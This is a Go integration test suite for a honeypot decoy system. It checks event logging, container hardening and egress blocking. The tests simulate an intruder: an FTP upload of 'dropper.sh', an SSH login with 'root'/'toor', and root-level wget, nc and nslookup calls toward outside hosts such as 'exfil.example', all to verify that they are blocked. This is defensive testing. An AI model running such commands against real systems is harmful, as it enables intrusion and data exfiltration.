package main_test

import (
	"bufio"
	"context"
	"fmt"
	"maps"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/compose-spec/compose-go/v2/types"

	"github.com/decnet/decnet"
	"github.com/decnet/decnet/collector/quarantine"
	"github.com/decnet/decnet/fleet"
	"github.com/decnet/decnet/fleet/compose"
	"github.com/decnet/decnet/fleet/pot"
	"github.com/decnet/decnet/internal/enginetest"
	"github.com/decnet/decnet/rfc5424"
	"github.com/decnet/decnet/services/all"
)

const (
	longest = 90 * time.Second
	deckyIP = "10.99.0.11"
)

// lab is a decky with redis, ftp and ssh, made by an engine of a compose document.
type lab struct {
	enginetest.LAN
	engine    *enginetest.Engine
	image     string
	artifacts string
}

func deploy(t *testing.T, egress string) lab {
	t.Helper()
	l := lab{engine: enginetest.Start(t), artifacts: filepath.Join(t.TempDir(), "artifacts")}
	l.LAN = enginetest.NewLAN(t)
	registry, err := all.Registry()
	if err != nil {
		t.Fatal(err)
	}
	text := "[web]\nip = " + deckyIP + "\nservices = redis, ftp, ssh\nnmap_os = windows\n" + egress + "[web.ssh]\npassword = toor\n[web.ftp]\naccept = any\n"
	f, err := fleet.FromINI(registry, []byte(text), fleet.Options{
		Mode: fleet.ModeMACVLAN, Interface: enginetest.Parent, Seed: "test",
		Subnet: netip.MustParsePrefix(enginetest.Subnet), Gateway: netip.MustParseAddr(enginetest.Gateway),
	})
	if err != nil {
		t.Fatal(err)
	}
	bytes, err := build()
	if err != nil {
		t.Fatal(err)
	}
	image, err := pot.NewImage(bytes)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := os.CopyFS(dir, image.Context); err != nil {
		t.Fatal(err)
	}
	began := time.Now()
	l.image = image.Name
	l.engine.Docker(t, "build", "-q", "-t", image.Name, dir)
	t.Logf("the image was built in %s", time.Since(began).Round(time.Millisecond))
	doc, err := compose.New(registry, f, compose.Options{Image: image.Name, Artifacts: l.artifacts})
	if err != nil {
		t.Fatal(err)
	}
	if err := doc.MakeDirectories(); err != nil {
		t.Fatal(err)
	}
	for name, n := range doc.Project.Networks {
		l.engine.Docker(t, "network", "create", "-d", n.Driver, "-o", "parent="+n.DriverOpts["parent"],
			"--subnet", n.Ipam.Config[0].Subnet, "--gateway", n.Ipam.Config[0].Gateway, name)
	}
	for _, name := range slices.Sorted(maps.Keys(doc.Project.Services)) { // the holder is first
		l.engine.Docker(t, append([]string{"run", "-d"}, arguments(doc.Project.Services[name])...)...)
	}
	return l
}

// arguments are those of docker run for a container of a document.
func arguments(s types.ServiceConfig) []string {
	args := []string{
		"--name", s.ContainerName, "--restart", s.Restart, "--user", s.User, "--cap-drop", s.CapDrop[0], "--security-opt", s.SecurityOpt[0],
		"--read-only", "--memory", strconv.Itoa(int(s.MemLimit)), "--memory-swap", strconv.Itoa(int(s.MemSwapLimit)),
		"--pids-limit", strconv.Itoa(int(s.PidsLimit)), "--cpus", fmt.Sprint(s.CPUS),
	}
	for _, c := range s.CapAdd {
		args = append(args, "--cap-add", c)
	}
	for name, v := range s.Environment {
		args = append(args, "--env", name+"="+*v)
	}
	for key, v := range s.Sysctls {
		args = append(args, "--sysctl", key+"="+v)
	}
	for _, dir := range s.Tmpfs {
		args = append(args, "--tmpfs", dir)
	}
	for _, v := range s.Volumes {
		args = append(args, "--volume", v.Source+":"+v.Target)
	}
	if decky, ok := strings.CutPrefix(s.NetworkMode, types.ServicePrefix); ok {
		args = append(args, "--network", "container:"+decky)
	}
	for name, n := range s.Networks {
		args = append(args, "--network", name, "--ip", n.Ipv4Address, "--hostname", s.Hostname, "--dns", s.DNS[0])
	}
	return append(append(args, s.Image), s.Command...)
}

// events are those that a container has printed.
func (l lab) events(t *testing.T, container string) []decnet.Event {
	t.Helper()
	var list []decnet.Event
	for line := range strings.Lines(l.engine.Docker(t, "logs", container)) {
		e, err := rfc5424.Parse(strings.TrimSuffix(line, "\n"))
		if err != nil {
			t.Errorf("%s prints %q: %v", container, line, err)
		}
		list = append(list, e)
	}
	return list
}

// event waits for an event of a container that has the fields.
func (l lab) event(t *testing.T, container, kind string, fields map[string]string) decnet.Event {
	t.Helper()
	for until := time.Now().Add(longest); ; time.Sleep(50 * time.Millisecond) {
		all := l.events(t, container)
		for _, e := range all {
			fits := e.Type == kind && e.Decky == "web"
			for key, v := range fields {
				fits = fits && e.Value(key) == v
			}
			if fits {
				return e
			}
		}
		if time.Now().After(until) {
			t.Fatalf("%s has no event %s %v in %v", container, kind, fields, all)
		}
	}
}

// answers waits until redis answers the attacker.
func (l lab) answers(t *testing.T) {
	t.Helper()
	for until := time.Now().Add(longest); ; time.Sleep(100 * time.Millisecond) {
		out := l.Attack(t, "timeout", "3", "redis-cli", "-h", deckyIP, "ping")
		if out == "PONG\n" {
			return
		}
		if time.Now().After(until) {
			t.Fatalf("redis says %q; %s\n%s", out, l.engine.Docker(t, "ps", "-a"), l.logs("web-redis"))
		}
	}
}

// root runs a shell command of the machine as root in the network of the decky: what an
// intruder could do who has broken out of everything but the lock.
func (l lab) root(t *testing.T, command string) {
	t.Helper()
	pid := strings.TrimSpace(l.engine.Docker(t, "inspect", "-f", "{{.State.Pid}}", "web"))
	ctx, cancel := context.WithTimeout(t.Context(), longest)
	defer cancel()
	_ = exec.CommandContext(ctx, "nsenter", "-t", pid, "-n", "sh", "-c", command).Run() // is refused
}

func TestDeckyOfContainers(t *testing.T) {
	l := deploy(t, "")
	l.answers(t)
	attacker := map[string]string{"src_ip": enginetest.AttackerAddr}
	l.event(t, "web-redis", "connect", attacker)
	l.Attack(t, "sh", "-c", "echo evil | curl -s -m 60 -T - ftp://admin:admin@"+deckyIP+"/dropper.sh")
	captured := l.event(t, "web-ftp", "file_captured", attacker)
	out := l.Attack(t, "sshpass", "-p", "toor", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "root@"+deckyIP, "ss -tln")
	for _, port := range []string{":21", ":22", ":6379"} {
		if !strings.Contains(out, port+" ") {
			t.Errorf("inside, ss does not show port %s:\n%s", port, out)
		}
	}
	l.event(t, "web-ssh", "command", map[string]string{"src_ip": enginetest.AttackerAddr, "command": "ss -tln"})
	if out := l.Attack(t, "busybox", "ping", "-c", "1", deckyIP); !strings.Contains(out, "ttl=128") {
		t.Errorf("the sysctls of windows are not in force:\n%s", out)
	}

	kept, err := quarantine.New(l.artifacts, quarantine.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer kept.Close()
	f, err := kept.Open("web", captured.Value("stored_as"))
	if err != nil {
		t.Fatalf("%v of %v", err, captured)
	}
	defer f.Close()
	info, err := f.Stat()
	if err != nil || info.Size() != 5 || info.Mode() != 0o600 {
		t.Errorf("the captured file has %d bytes and mode %v, %v", info.Size(), info.Mode(), err)
	}
	l.figures(t)
	l.stops(t)
}

// figures logs the sizes and holds them against the aims.
func (l lab) figures(t *testing.T) {
	t.Helper()
	size, err := strconv.Atoi(strings.TrimSpace(l.engine.Docker(t, "image", "inspect", "-f", "{{.Size}}", l.image)))
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("the image has %.1f MB", float64(size)/1e6)
	if size > 20e6 {
		t.Errorf("the image has %d bytes, the aim is 20 MB", size)
	}
	for _, name := range []string{"web", "web-redis", "web-ftp", "web-ssh"} {
		pid := strings.TrimSpace(l.engine.Docker(t, "inspect", "-f", "{{.State.Pid}}", name))
		status, err := os.ReadFile("/proc/" + pid + "/status")
		if err != nil {
			t.Fatal(err)
		}
		resident := make(map[string]int)
		for line := range strings.Lines(string(status)) {
			if f := strings.Fields(line); len(f) == 3 && f[2] == "kB" {
				resident[f[0]], err = strconv.Atoi(f[1])
				if err != nil {
					t.Fatal(err)
				}
			}
		}
		t.Logf("%s has %d kB of memory of its own, and %d kB of the program, which all share", name, resident["RssAnon:"], resident["RssFile:"])
		if own := resident["RssAnon:"]; own > 10<<10 {
			t.Errorf("%s has %d kB of its own, the aim is 10 MB", name, own)
		}
	}
}

// stops stops the containers, which end by themselves and well.
func (l lab) stops(t *testing.T) {
	t.Helper()
	for _, name := range []string{"web-redis", "web-ftp", "web-ssh", "web"} {
		l.engine.Docker(t, "stop", "-t", "30", name)
		if state := l.engine.Docker(t, "inspect", "-f", "{{.State.ExitCode}}", name); state != "0\n" {
			t.Errorf("%s stopped with status %s", name, state)
		}
	}
}

// TestW17_NothingLeavesAContainer tries to leave as root, and through an exit, while the
// bridge is watched.
func TestW17_NothingLeavesAContainer(t *testing.T) {
	l := deploy(t, "egress = tcp:"+enginetest.AttackerAddr+":9090\n")
	l.answers(t)
	packets := l.Capture(t, "src host "+deckyIP, deckyIP)
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	exit := l.Attacker(ctx, "nc", "-n", "-l", "-k", "-v", "-p", "9090")
	opened, err := exit.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := exit.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cancel(); _ = exit.Wait() })
	lines := bufio.NewReader(opened)
	if line, err := lines.ReadString('\n'); err != nil || !strings.HasPrefix(line, "Listening") {
		t.Fatalf("nc says %q, %v", line, err)
	}

	for _, try := range []struct{ command, protocol, addr, port string }{
		{"timeout 2 busybox wget -O - http://192.0.2.80/", "tcp", "192.0.2.80", "80"},
		{"nc -w 1 " + enginetest.AttackerAddr + " 9091", "tcp", enginetest.AttackerAddr, "9091"},
		{"timeout 2 busybox nslookup exfil.example 192.0.2.53", "udp", "192.0.2.53", "53"},
		{"timeout 2 busybox nslookup web 127.0.0.11", "udp", "127.0.0.11", "53"}, // the resolver of the engine
		{"busybox ping -c 1 -W 1 192.0.2.1", "icmp", "192.0.2.1", ""},
	} {
		l.root(t, try.command)
		want := map[string]string{"protocol": try.protocol, "dst_ip": try.addr}
		if try.port != "" {
			want["dst_port"] = try.port
		}
		if e := l.event(t, "web", "egress_blocked", want); e.Service != "egress" {
			t.Errorf("%+v", e)
		}
	}
	l.root(t, "echo allowed | nc -w 1 "+enginetest.AttackerAddr+" 9090")
	if line, err := lines.ReadString('\n'); err != nil || !strings.Contains(line, deckyIP) {
		t.Errorf("through the exit comes %q, %v", line, err)
	}
	l.answers(t)

	sent := packets()
	if !strings.Contains(strings.Join(sent, "\n"), ".6379 > "+enginetest.AttackerAddr) {
		t.Errorf("the answers are not in the capture:\n%s", sent)
	}
	for _, line := range sent {
		from, to, _ := strings.Cut(line, " > ")
		if !strings.HasSuffix(from, ".6379") && !strings.HasPrefix(to, enginetest.AttackerAddr+".9090:") {
			t.Errorf("this left: %s", line)
		}
	}
}

// TestW45_ContainersHaveNoMoreThanTheyNeed looks at the processes themselves, which the
// engine has made of the document.
func TestW45_ContainersHaveNoMoreThanTheyNeed(t *testing.T) {
	l := deploy(t, "")
	l.answers(t)
	for _, name := range []string{"web", "web-redis", "web-ftp", "web-ssh"} {
		pid, err := strconv.Atoi(strings.TrimSpace(l.engine.Docker(t, "inspect", "-f", "{{.State.Pid}}", name)))
		if err != nil {
			t.Fatal(err)
		}
		ids := "65532\t65532\t65532\t65532"
		if name == "web" {
			ids = "0\t0\t0\t0"
		}
		for key, want := range map[string]string{
			"CapEff": "0000000000000000", "CapPrm": "0000000000000000", "NoNewPrivs": "1", "Seccomp": "2", "Uid": ids, "Gid": ids,
		} {
			if got := statusOf(t, pid, key); got != want {
				t.Errorf("%s: %s is %q, want %q", name, key, got, want)
			}
		}
		mounts, err := os.ReadFile(fmt.Sprintf("/proc/%d/mounts", pid))
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(string(mounts)) {
			on, options := strings.Fields(line)[1], strings.Fields(line)[3]
			device := strings.HasPrefix(on, "/dev") || strings.HasPrefix(on, "/proc") || strings.HasPrefix(on, "/sys/fs/cgroup") // of the engine
			writable := on == "/tmp" || strings.HasPrefix(on, "/artifacts/web/")
			if strings.HasPrefix(options, "rw") && !device && (!writable || name == "web") && !strings.HasPrefix(on, "/etc/") {
				t.Errorf("%s can write to %s", name, line)
			}
		}
	}
}

// TestW17_TheDeckyComesBackLocked kills the holder of the address without notice.
func TestW17_TheDeckyComesBackLocked(t *testing.T) {
	l := deploy(t, "")
	l.answers(t)
	pid := strings.TrimSpace(l.engine.Docker(t, "inspect", "-f", "{{.State.Pid}}", "web"))
	old := filepath.Join(t.TempDir(), "old")
	if err := os.WriteFile(old, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("mount", "--bind", "/proc/"+pid+"/ns/net", old).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command("umount", "-l", old).Run() })
	if out, err := exec.Command("kill", "-9", pid).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	began := time.Now()
	for until := began.Add(longest); ; time.Sleep(50 * time.Millisecond) {
		if now := strings.TrimSpace(l.engine.Docker(t, "inspect", "-f", "{{.State.Pid}}", "web")); now != pid && now != "0" {
			break
		}
		if time.Now().After(until) {
			t.Fatal("the engine does not start the holder again")
		}
	}
	l.answers(t)
	t.Logf("the decky answers again %s after its holder was killed", time.Since(began).Round(100*time.Millisecond))
	l.root(t, "nc -w 1 192.0.2.1 7")
	l.event(t, "web", "egress_blocked", map[string]string{"dst_ip": "192.0.2.1", "dst_port": "7"})

	// The network of before has lost its interface, and would stay locked with another one.
	for _, args := range []string{"link add out0 type veth peer name out1", "addr add 192.0.2.7/24 dev out0", "link set out0 up", "link set out1 up"} {
		if out, err := exec.Command("nsenter", append([]string{"--net=" + old, "ip"}, strings.Fields(args)...)...).CombinedOutput(); err != nil {
			t.Fatalf("ip %s: %v: %s", args, err, out)
		}
	}
	out, err := exec.Command("nsenter", "--net="+old, "sh", "-c", "busybox ping -c 1 -W 1 192.0.2.1; ip neigh show 192.0.2.1").CombinedOutput()
	if err != nil || !strings.HasSuffix(string(out), "100% packet loss\n") { // not even its hardware address was asked for
		t.Errorf("out of the network of before: %v: %s", err, out)
	}
}

// logs are the last lines of a container, of both streams.
func (l lab) logs(container string) []byte {
	cmd := exec.Command("docker", "logs", "--tail", "20", container)
	cmd.Env = append(os.Environ(), "DOCKER_HOST="+l.engine.Host)
	out, err := cmd.CombinedOutput()
	return fmt.Appendf(out, "%v", err)
}
